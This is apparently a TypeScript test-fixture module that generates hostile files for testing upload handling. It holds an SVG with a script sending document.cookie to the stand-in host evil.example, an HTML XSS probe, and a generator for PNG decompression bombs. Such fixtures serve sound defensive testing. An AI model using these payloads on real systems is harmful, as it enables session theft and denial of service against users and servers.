/** Files that mean harm, made for tests: pictures that unfold, pages with scripts, papers with programs. */
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** A plain picture of a size. */
export const canvas = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 20, g: 120, b: 200 } } });

export const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/"+document.cookie)</script></svg>';
export const HTML = '<!doctype html><title>photo</title><script>alert(document.domain)</script>';

/** A part of a PNG: length, type, bytes, checksum. */
export function chunk(type: string, bytes: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), bytes]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(bytes.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}

/** A PNG of so many black and white pixels that a few kilobytes unfold into hundreds of megabytes. */
export function pngOf(width: number, height: number, rows = height): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  const pixels = deflateSync(Buffer.alloc(rows * (Math.ceil(width / 8) + 1)), { level: 9 });
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
}

/** A picture of several pages as scanners make them. */
export const TIFF = Buffer.from('49492a0008000000000000000000', 'hex');
export const pdf = (body: string): string => `%PDF-1.7\n1 0 obj\n${body}\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`;
export const page = '<< /Type /Page /Parent 2 0 R >>\n';
